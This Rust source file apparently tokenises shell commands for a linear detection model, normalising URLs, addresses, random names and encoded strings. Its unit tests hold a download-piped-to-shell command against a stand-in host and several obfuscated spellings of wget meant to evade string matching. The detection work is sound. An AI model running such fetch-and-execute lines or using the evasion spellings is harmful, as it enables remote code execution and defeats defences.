//! Text tokens of a command, for a linear model: letters of the line as written, words as the shell reads them.
//!
//! ```text
//!   as written ─► n-grams                                    (one side)
//!   words      ─► program, flag, operator, argument by its kind, and each with its neighbour  (the other)
//! ```
//!
//! What differs from attack to attack is made equal: numbers, addresses, URLs, random names, long literals.

use super::address;
use super::parse::Command;
use super::shape::shortened;
use super::word::{Role, Word, base_name, cut};
use crate::text::{PlacedToken, Side, Sink, TextParameters, Writer, entity_of_pieces};
use crate::url::randomness::likelihood;

/// Where a token comes from; seeds its hash, so that equal letters of two parts differ.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Part {
    /// The line as written.
    Written = 1,
    /// A program's name.
    Program,
    /// A program that runs another.
    Wrapper,
    /// An option.
    Flag,
    /// An operator or redirection.
    Operator,
    /// What a program is given, by its kind.
    Argument,
    /// The words inside of what a program is given.
    Word,
    /// A word and the one before it.
    Pair,
    /// A program and one that it is joined to.
    Chain,
    /// The folder that a program was named with.
    Folder,
}

impl From<Part> for u64 {
    fn from(part: Part) -> Self {
        part as Self
    }
}

/// Appends the tokens of a command to `out`, each as a 32-bit hash: its upper bits are a bucket, its lowest says
/// whether it comes of the letters as written (1) or of the words as the shell reads them (0).
pub fn tokens(command: &Command, parameters: &TextParameters, out: &mut Vec<u32>) {
    write(command, parameters, out);
}

/// Appends the tokens of a command as [`tokens`] does, and returns what [`Command::entity`] does.
pub(crate) fn tokens_and_entity(
    command: &Command,
    parameters: &TextParameters,
    out: &mut Vec<u32>,
) -> u32 {
    let kinds = kinds(command);
    write_with(command, &kinds, parameters, out);
    entity_of(&kinds)
}

/// Returns the tokens of a command, each with its letters, in the order of [`tokens`].
#[must_use]
pub fn placed_tokens(command: &Command, parameters: &TextParameters) -> Vec<PlacedToken<Part>> {
    let mut placed = Vec::new();
    write(command, parameters, &mut placed);
    placed
}

/// Returns the text of a part, whose letters tokens are made of.
#[must_use]
pub fn part_text(command: &Command, part: Part) -> &str {
    match part {
        Part::Written => written(command),
        _ => &command.text,
    }
}

/// A separator at the line's end says how it was logged, not what it does.
fn written(command: &Command) -> &str {
    command.raw.trim_matches([' ', ';', '\n', '\r', '\t'])
}

/// Words of a command that become tokens.
const WORDS_MAX: usize = 2_048;

fn write<S: Sink<Part>>(command: &Command, parameters: &TextParameters, out: &mut S) {
    write_with(command, &kinds(command), parameters, out);
}

/// Returns what the words that become tokens are made of.
fn kinds(command: &Command) -> Vec<Kind<'_>> {
    let words = command.words.iter().take(WORDS_MAX);
    words
        .map(|word| Kind::of(word, command.letters(word)))
        .collect()
}

fn write_with<S: Sink<Part>>(
    command: &Command,
    kinds: &[Kind<'_>],
    parameters: &TextParameters,
    out: &mut S,
) {
    let mut writer = Writer {
        out,
        side: Side::Entity,
        parameters,
    };
    let shortest = writer.parameters.host_gram_min;
    writer.grams(Part::Written, written(command), (b"^", b"$"), shortest);
    let mut layers = command
        .layers
        .iter()
        .skip(1)
        .map(|layer| layer.first_word)
        .peekable();
    let mut chain = Chain::default();
    let mut before: Option<(Kind<'_>, usize)> = None;
    for (place, (word, kind)) in command.words.iter().zip(kinds).enumerate() {
        let kind = *kind;
        while layers.next_if(|first| *first <= place).is_some() {
            before = None;
            chain = Chain::default();
        }
        let letters = command.letters(word);
        let mut sink = Offset {
            out: &mut *writer.out,
            offset: word.start,
        };
        let mut writer = Writer {
            out: &mut sink,
            side: Side::Content,
            parameters,
        };
        one(&mut writer, word, letters, kind);
        if let Some((known, start)) = before {
            // Places are of the whole text here.
            writer.out.offset = 0;
            let marks = [known.mark, known.text, kind.mark, kind.text];
            writer.pieces(Part::Pair, &marks, start, word.end);
        }
        chain.see(&mut writer, word, letters);
        before = (word.role != Role::Body).then_some((kind, word.start));
    }
}

/// Shifts the places of tokens.
struct Offset<'s, S> {
    out: &'s mut S,
    offset: usize,
}

impl<S: Sink<Part>> Sink<Part> for Offset<'_, S> {
    fn take(&mut self, tokens: impl Iterator<Item = PlacedToken<Part>>) {
        let offset = self.offset;
        self.out.take(tokens.map(|placed| PlacedToken {
            start: placed.start.saturating_add(offset),
            end: placed.end.saturating_add(offset),
            ..placed
        }));
    }
}

/// The program before, and what joins it to the next.
#[derive(Default)]
struct Chain<'c> {
    program: Option<(&'c str, usize)>,
    operator: &'c str,
}

impl<'c> Chain<'c> {
    fn see<S: Sink<Part>>(
        &mut self,
        writer: &mut Writer<'_, Offset<'_, S>>,
        word: &Word,
        letters: &'c str,
    ) {
        match word.role {
            Role::Operator => self.operator = letters,
            Role::Program => {
                let name = name_of(letters);
                if let Some((before, start)) = self.program {
                    writer.out.offset = 0;
                    writer.pieces(Part::Chain, &[before, self.operator, name], start, word.end);
                }
                self.program = Some((name, word.start));
                self.operator = "";
            }
            _ => {}
        }
    }
}

/// The tokens of one word alone.
fn one<S: Sink<Part>>(
    writer: &mut Writer<'_, Offset<'_, S>>,
    word: &Word,
    letters: &str,
    kind: Kind<'_>,
) {
    let end = letters.len();
    match word.role {
        Role::Program | Role::Wrapper => {
            let part = if word.role == Role::Program {
                Part::Program
            } else {
                Part::Wrapper
            };
            writer.pieces(part, &[kind.text], 0, end);
            let folder = letters.len().saturating_sub(base_name(letters).len());
            if folder > 0 {
                writer.pieces(Part::Folder, &[folder_of(letters)], 0, folder);
            }
        }
        Role::Flag => {
            writer.pieces(Part::Flag, &[kind.text], 0, end);
            if letters.contains('=') {
                writer.words(Part::Word, letters);
            }
        }
        Role::Operator | Role::Redirection | Role::Keyword => {
            writer.pieces(Part::Operator, &[letters], 0, end);
        }
        Role::Argument | Role::Target | Role::Assignment => {
            writer.pieces(Part::Argument, &[kind.mark, kind.text], 0, end);
            writer.words(Part::Word, letters);
        }
        Role::Body => writer.words(Part::Word, letters),
    }
}

/// A word made equal to others of its kind.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
struct Kind<'c> {
    mark: &'static str,
    text: &'c str,
}

/// Bytes of a word that stands for itself.
const WORD_BYTES_MAX: usize = 24;

impl<'c> Kind<'c> {
    fn of(word: &Word, letters: &'c str) -> Self {
        match word.role {
            Role::Program => Self {
                mark: "program ",
                text: name_of(letters),
            },
            Role::Wrapper => Self {
                mark: "wrapper ",
                text: base_name(letters),
            },
            Role::Flag => {
                let name = letters.split(['=', ',']).next().unwrap_or(letters);
                Self {
                    mark: "flag ",
                    text: shortened(name, WORD_BYTES_MAX),
                }
            }
            Role::Operator | Role::Redirection | Role::Keyword => Self {
                mark: "",
                text: letters,
            },
            Role::Target => Self {
                mark: "target ",
                text: general(letters),
            },
            Role::Assignment => {
                let name = letters.split('=').next().unwrap_or(letters);
                Self {
                    mark: "variable ",
                    text: shortened(name, WORD_BYTES_MAX),
                }
            }
            Role::Argument => Self {
                mark: "argument ",
                text: general(letters),
            },
            Role::Body => Self {
                mark: "",
                text: "<code>",
            },
        }
    }
}

/// Returns a program's name, or what stands for one that nobody could know.
fn name_of(letters: &str) -> &str {
    let name = base_name(letters);
    if letters.starts_with(['$', '"', '\'']) {
        "<live>"
    } else if name.len() > WORD_BYTES_MAX {
        "<long>"
    } else if super::lexicon::class_of(name) == super::lexicon::Class::Unknown && is_random(name) {
        "<random>"
    } else {
        name
    }
}

fn folder_of(path: &str) -> &'static str {
    const FOLDERS: [&str; 12] = [
        "/bin/",
        "/usr/bin/",
        "/sbin/",
        "/usr/sbin/",
        "/usr/local/",
        "/tmp/",
        "/var/",
        "/dev/",
        "/etc/",
        "/opt/",
        "/home/",
        "./",
    ];
    FOLDERS
        .into_iter()
        .find(|folder| path.starts_with(folder))
        .unwrap_or("<folder>")
}

/// Returns what stands for a word in tokens: itself if it is short and plain, else its kind.
fn general(letters: &str) -> &str {
    let all = |kind: fn(&u8) -> bool| letters.bytes().all(|byte| kind(&byte));
    if letters.is_empty() {
        return "<empty>";
    }
    if all(u8::is_ascii_digit) {
        return if letters.len() < 3 {
            letters
        } else {
            "<number>"
        };
    }
    let has_digit = letters.bytes().any(|byte| byte.is_ascii_digit());
    let address = has_digit.then(|| address::first(letters)).flatten();
    if letters.contains("://") {
        return if address.is_some() {
            "<address url>"
        } else {
            "<url>"
        };
    }
    if address.is_some() {
        return "<address>";
    }
    if letters.contains([' ', '\n', '(']) {
        return "<text>";
    }
    if letters.len() >= 16 && all(u8::is_ascii_hexdigit) {
        return "<hexadecimal>";
    }
    if letters.starts_with('$') {
        return "<variable>";
    }
    if letters.contains('/') {
        return path(letters);
    }
    if letters.len() > WORD_BYTES_MAX {
        let is_code =
            |byte: &u8| byte.is_ascii_alphanumeric() || matches!(byte, b'+' | b'=' | b'_');
        return if all(is_code) { "<encoded>" } else { "<long>" };
    }
    match letters.rfind('.') {
        Some(dot) if dot > 0 && letters.len().saturating_sub(dot) <= 6 => {
            cut(letters, dot, letters.len())
        }
        _ if is_random(letters) => "<random>",
        _ => letters,
    }
}

/// Returns a path that many machines have as it is, and the kind of any other.
fn path(letters: &str) -> &str {
    const OWN: [(&str, &str); 6] = [
        ("/tmp", "<temporary>"),
        ("/var/tmp", "<temporary>"),
        ("/dev/shm", "<temporary>"),
        ("/home", "<home>"),
        ("~", "<home>"),
        ("./", "<here>"),
    ];
    if let Some((_, kind)) = OWN.iter().find(|(start, _)| letters.starts_with(start)) {
        return kind;
    }
    let is_system = [
        "/bin/",
        "/usr/bin/",
        "/etc/",
        "/dev/",
        "/proc/",
        "/sbin/",
        "/usr/sbin/",
    ]
    .iter()
    .any(|folder| letters.starts_with(folder));
    if is_system && letters.len() <= WORD_BYTES_MAX && !is_random(base_name(letters)) {
        letters
    } else {
        "<path>"
    }
}

/// Bits a letter below which a name looks rolled by dice.
const RANDOM_BELOW: f32 = -5.5;
/// Letters that a name must have.
const LETTERS_MIN: usize = 6;

fn is_random(name: &str) -> bool {
    name.len() >= LETTERS_MIN
        && name
            .bytes()
            .all(|byte| byte.is_ascii_lowercase() || byte.is_ascii_digit())
        && likelihood(name, LETTERS_MIN) < RANDOM_BELOW
}

/// See [`Command::entity`].
pub(super) fn entity(command: &Command) -> u32 {
    entity_of(&kinds(command))
}

fn entity_of(kinds: &[Kind<'_>]) -> u32 {
    let pieces = kinds.iter().flat_map(|kind| [kind.mark, kind.text, " "]);
    entity_of_pieces(&pieces.collect::<Vec<&str>>())
}

#[cfg(test)]
mod tests {
    use std::collections::BTreeSet;

    use ringtrue_core::Limits;

    use super::*;

    fn read(text: &str) -> Command {
        Command::parse(text, &Limits::default()).0
    }

    fn content(text: &str) -> Vec<u32> {
        let mut out = Vec::new();
        tokens(&read(text), &TextParameters::default(), &mut out);
        out.retain(|token| token & 1 == 0);
        out
    }

    #[test]
    fn spelling_does_not_change_the_words() {
        let plain = content("wget -q http://h.example/x");
        for disguised in [
            "w'g'et -q http://h.example/x",
            "wg\\et -q \"http://h.example/x\"",
            "w\"\"get${IFS}-q${IFS}http://h.example/x",
            "A=wget; $A -q http://h.example/x",
            "$'\\x77get' -q http://h.example/x",
            "{wget,-q,http://h.example/x}",
        ] {
            let found = content(disguised);
            assert!(
                plain.iter().all(|token| found.contains(token)),
                "{disguised}: {}",
                read(disguised).normalised()
            );
        }
    }

    #[test]
    fn literals_are_made_equal() {
        let check =
            |letters: &str, expected: &str| assert_eq!(general(letters), expected, "{letters}");
        check("12345", "<number>");
        check("http://192.0.2.7/x", "<address url>");
        check("https://www.example.com/x", "<url>");
        check("192.0.2.7", "<address>");
        check("/tmp/x1", "<temporary>");
        check("/etc/shadow", "/etc/shadow");
        check("/srv/data/file", "<path>");
        check("report.sh", ".sh");
        check("xqzvkjw", "<random>");
        check("d2hvYW1pCmlkCnVuYW1lIC1hCg==", "<encoded>");
        check("install", "install");
    }

    #[test]
    fn entities_are_shapes() {
        assert_eq!(
            read("wget http://192.0.2.7/a").entity(),
            read("wget http://198.51.100.9:81/bb").entity()
        );
        assert_ne!(
            read("wget http://192.0.2.7/a").entity(),
            read("curl http://192.0.2.7/a").entity()
        );
    }

    #[test]
    fn every_token_has_its_letters() {
        let command = read("sudo wget -qO- http://h.example/x | sh -c 'echo hi'");
        let parameters = TextParameters::default();
        let placed = placed_tokens(&command, &parameters);
        let mut hashes = Vec::new();
        tokens(&command, &parameters, &mut hashes);
        assert_eq!(
            placed.iter().map(|token| token.token).collect::<Vec<_>>(),
            hashes
        );
        let mut again = Vec::new();
        let entity = tokens_and_entity(&command, &parameters, &mut again);
        assert_eq!((entity, again), (command.entity(), hashes));
        let letters =
            |token: &PlacedToken<Part>| part_text(&command, token.part).get(token.start..token.end);
        assert!(placed.iter().all(|token| letters(token).is_some()));
        let found: BTreeSet<&str> = placed.iter().filter_map(letters).collect();
        for expected in [
            "wget",
            "-qO-",
            "|",
            "echo hi",
            "wget -qO-",
            "wget -qO- http://h.example/x | sh",
            "hi",
        ] {
            assert!(found.contains(expected), "{expected}: {found:?}");
        }
    }
}
